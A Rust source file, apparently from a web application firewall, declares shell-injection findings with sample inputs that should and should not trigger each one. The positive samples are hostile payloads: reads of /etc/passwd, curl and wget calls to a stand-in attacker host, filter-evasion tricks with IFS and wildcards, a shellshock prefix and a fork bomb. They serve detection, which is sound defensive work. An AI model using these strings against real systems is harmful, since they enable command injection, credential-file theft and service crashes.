//! What the shell detector can find.

use crate::waf::detect::macros::findings;

findings! {
    class Rce, tags &["shell"];
    COMMAND: "rce-command", STRONG, "a command where a shell runs one",
        ["; cat /etc/passwd", "x|id", "$(curl evil.example)", "`wget http://evil.example/x`", "127.0.0.1; w'h'oami", "nohup ifconfig"],
        ["tea; find me some", "cat food", "curl cream", "time flies", "bash away in the gym"];
    SUBSTITUTED: "rce-substitution", MEDIUM, "a substitution of a shell", [], [];
    SHELL_VARIABLE: "rce-shell-variable", STRONG, "a variable that only shells have, or an escaped string of theirs",
        ["cat${IFS}x", "$'\\x63at'"], ["${name}"];
    REDIRECTION: "rce-redirection", MEDIUM, "a redirection of a shell", [], [];
    WILDCARD_PATH: "rce-wildcard-path", STRONG, "a known file or program, written with wildcards",
        ["/bin/c?t", "x;/???/p?ng"], ["/search?q=x", "*/*"];
    HISTORY: "rce-history", STRONG, "a command out of the history, or a directory out of the stack",
        ["!-1!-2", "~+", "!!"], ["hello!!", "~4kg"];
    FUNCTION: "rce-shell-function", STRONG, "a function of a shell, as shellshock or a fork bomb has it",
        ["() { :; }; x", ":(){ :|:& };:"], ["function f() { return 1 }", "() => { x }"];
}
